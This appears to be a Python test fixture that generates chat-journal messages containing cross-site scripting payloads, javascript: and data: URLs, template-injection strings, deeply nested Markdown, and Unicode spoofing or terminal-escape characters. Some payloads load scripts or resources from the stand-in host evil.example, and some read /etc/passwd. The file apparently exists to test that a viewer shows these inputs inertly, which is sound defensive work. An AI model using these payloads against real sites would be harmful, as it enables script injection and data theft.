"""Messages that would do something if a page let them: each is made here, by rule.

Each payload would set `window.pwned` or send a request to `evil.example` where it worked.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any
from unicodedata import category

from journal import Journal

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

EVIL = "evil.example"
CODE = "window.pwned=1"
URL = f"http://{EVIL}/x"
RASTER = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+")
"""The sources that an image may have."""
LINK = re.compile(r"(?:https?://|mailto:)", re.IGNORECASE)
"""How an address that leaves a page may begin."""
HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
)
"""Characters that are shown as escapes."""

HTML = (
    f"<script>{CODE}</script>",
    f"<script src={URL}.js></script>",
    f"<SCRIPT\n>{CODE}</SCRIPT>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f"<img src=x onerror={CODE}>",
    f"<img src={URL}.png>",
    f"<image src={URL}.png>",
    f"<svg onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><use href='{URL}.svg#a'/></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{CODE}'><text>x</text></a></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{CODE}'>x</maction></math>",
    f"<math><mtext><table><mglyph><style><img src onerror={CODE}></style>",
    f"<style>@import '{URL}.css';body{{display:none}}</style>",
    f"<link rel=stylesheet href={URL}.css>",
    f"<link rel=prefetch href={URL}>",
    f"<link rel=dns-prefetch href=//{EVIL}>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<base href=http://{EVIL}/>",
    f"<iframe src={URL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
    f"<object data={URL}></object>",
    f"<embed src={URL}>",
    f"<form action={URL}><button autofocus onfocus={CODE}>x</button></form>",
    f"<input autofocus onfocus={CODE}>",
    f"<details open ontoggle={CODE}>x</details>",
    f"<video src={URL} autoplay></video>",
    f"<audio src={URL} autoplay></audio>",
    f"<body onload={CODE} background={URL}>",
    f"<table background={URL}><td style='background:url({URL})'>x</td></table>",
    f"<div style='background-image:url({URL})'>x</div>",
    f"<a href='javascript:{CODE}' autofocus>x</a>",
    f"<template><script>{CODE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"<textarea></textarea><script>{CODE}</script>",
    f"</article></main></body><script>{CODE}</script>",
    f"</title><script>{CODE}</script>",
    f"</pre></code></details><script>{CODE}</script>",
    f"--><script>{CODE}</script><!--",
    f"]]><script>{CODE}</script>",
    f"\"'><script>{CODE}</script>",
    f"' autofocus onfocus={CODE} x='",
    f'" autofocus onfocus={CODE} x="',
    f"&lt;script&gt;{CODE}&lt;/script&gt;",
    f"&#60;script&#62;{CODE}&#60;/script&#62;",
    f"{{{{ constructor.constructor('{CODE}')() }}}} {{% include '/etc/passwd' %}}",
    f"<marquee onstart={CODE}>x</marquee>",
    "<form><input name=attributes><input name=getElementById></form><a id=entries>",
)
"""HTML that a page must show as text."""

ADDRESSES = (
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"java\tscript:{CODE}",
    f"java&#10;script:{CODE}",
    f"&#106;avascript:{CODE}",
    f"\x01javascript:{CODE}",
    f" javascript:{CODE}",
    f"vbscript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CODE}'/>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQ9MT4=",
    "file:///etc/passwd",
    f"blob:{URL}",
    "filesystem:http://x/y",
    f"//{EVIL}/x",
    f"\\\\{EVIL}\\x",
    f"/\\{EVIL}",
    "about:blank",
    "view-source:x",
    "intent://x#Intent;end",
    "/search?q=x",
    "#entries",
    "../sessions",
    f"{URL}.png",
    f'https://{EVIL}/a"onmouseover="{CODE}',
    f"mailto:a@{EVIL}?body=<script>{CODE}</script>",
)
"""Addresses of links and images."""

MARKDOWN = (
    "[x]({})",
    "![x]({})",
    "[x](<{}>)",
    "[x]: {}\n\n[x] ![x]",
    "<{}>",
    "[![x]({0})]({0})",
)
"""Markdown with a place for an address."""

BROKEN = (
    "```\n<script>window.pwned=1</script>",
    "```html\n<script>window.pwned=1</script>\n```",
    "```<script>window.pwned=1</script>\nx\n```",
    '```" onmouseover=window.pwned=1 x="\nx\n```',
    "~~~js h-k banner top\n</code></pre><script>window.pwned=1</script>\n~~~",
    "`<script>window.pwned=1</script>`",
    "``` ` ``` `<img src=x onerror=window.pwned=1>",
    "| a | <script>window.pwned=1</script> |\n|---|---|\n| <img src=x onerror=window.pwned=1> | |",
    "[" * 500 + "x" + "]" * 500,
    "*" * 2000 + "x",
    "> " * 300 + "<script>window.pwned=1</script>",
    "- " * 300 + "x",
    "1999999999999999999. x",
    "![" * 300,
    "[a](" * 300,
    "<" * 2000,
    "&" * 1000 + "&lt;",
    "\\<script>window.pwned=1</script>",
    "[x](http://a 'title\" onmouseover=window.pwned=1')",
    "<!-- <script>window.pwned=1</script> -->",
    "<?php echo 1 ?><![CDATA[<script>window.pwned=1</script>]]>",
)
"""Markdown that ends in the middle, nests deep, or leaves code."""

UNSAFE = (
    "\x1b]0;pwned\x07\x1b[2J",
    "\x00\x01\x02\x7f\x9b31m",
    "\u202eevil\u202c txt.exe",
    "\u2066\u2067\u2068x\u2069",
    "a\u200bb\ufeffc\u2060d",
    "line\u2028line\u2029line",
    "\u061c\u200e\u200f",
    "&#x202e;evil &#8238; &rlm;&lrm;&ZeroWidthSpace;",
    "\ue000mark\ue001\ue000",
    "data: x\nevent: evil\n\nid: 1\r\rretry: 1",
    "\U000e0041\U000e0042",
)
"""Characters that hide or reorder text, or end a line of a protocol."""


@dataclass(frozen=True, slots=True)
class Message:
    """A message to append: its session, id, role, content and other fields."""

    session: str
    id: str
    role: str
    content: Any
    fields: dict[str, Any] = field(default_factory=dict)


def texts() -> list[str]:
    """Return every payload as a text."""
    links = [form.format(address) for address in ADDRESSES for form in MARKDOWN]
    return [*HTML, *links, *BROKEN, *UNSAFE]


def corpus() -> list[Message]:
    """Return the messages: every payload as text, and some at every other place."""
    found = [
        Message("texts", f"t{number}", ("user", "assistant")[number % 2], text)
        for number, text in enumerate(texts())
    ]
    found += _elsewhere()
    return found


def _elsewhere() -> Iterator[Message]:
    some = [*HTML, *UNSAFE[:6]]
    for number, text in enumerate(some):
        call = {
            "id": f"c{number}",
            "function": {
                "name": text,
                "arguments": {"file_path": text, "old_string": text, "new_string": f"{text}!"},
            },
        }
        yield Message("calls", f"a{number}", "assistant", text, {"tool_calls": [call]})
        result = {"tool_call_id": f"c{number}", "tool_name": text, "extra": {"exit_code": 1}}
        yield Message("calls", f"r{number}", "tool", text, result)
        yield Message("roles", f"o{number}", _key(text), text, {"meta": text})
        yield Message("models", f"m{number}", "assistant", text, {"model": text, "source": text})
        yield Message("thoughts", f"h{number}", "assistant", text, {"reasoning": text})
        yield Message(f"s{_key(text)}", f"i{_key(text)}", "user", text)
    for number, address in enumerate(ADDRESSES):
        parts: list[Any] = [
            {"type": "image_url", "image_url": {"url": address}},
            {"type": "image", "source": {"type": "url", "url": address}},
            {"type": "image", "source": {"media_type": "image/svg+xml", "data": address}},
            {"type": "file", "name": address, "url": address},
            {"type": "tool_use", "name": address, "input": {"command": address, "patch": address}},
            {"type": "tool_result", "tool_use_id": address, "content": address, "is_error": True},
            {"type": address, "text": address},
            {"type": "thinking", "thinking": address},
            {"inlineData": {"mimeType": "text/html", "data": address}},
            [address],
            5,
        ]
        yield Message("parts", f"p{number}", "user", parts)


def write(path: Path) -> None:
    """Write the corpus to a journal."""
    with Journal.open(path) as journal:
        for message in corpus():
            journal.append_message(
                message.session, message.role, message.content, id=message.id, **message.fields
            )
        for number, text in enumerate((*HTML, *UNSAFE[:6])):
            data = {"title": f"{text} {number}", "cwd": f"/{text}", "model": text, "source": text}
            journal.append(session=f"s{_key(text)}", type="session.created", data=data)
            usage = {"input_tokens": 5, "output_tokens": 3, "model": text}
            journal.append(session=f"s{_key(text)}", type="usage.added", data=usage)


def _key(text: str) -> str:
    """Return a text as an id can be: the journal refuses control characters in ids."""
    return "".join(" " if category(character) == "Cc" else character for character in text)
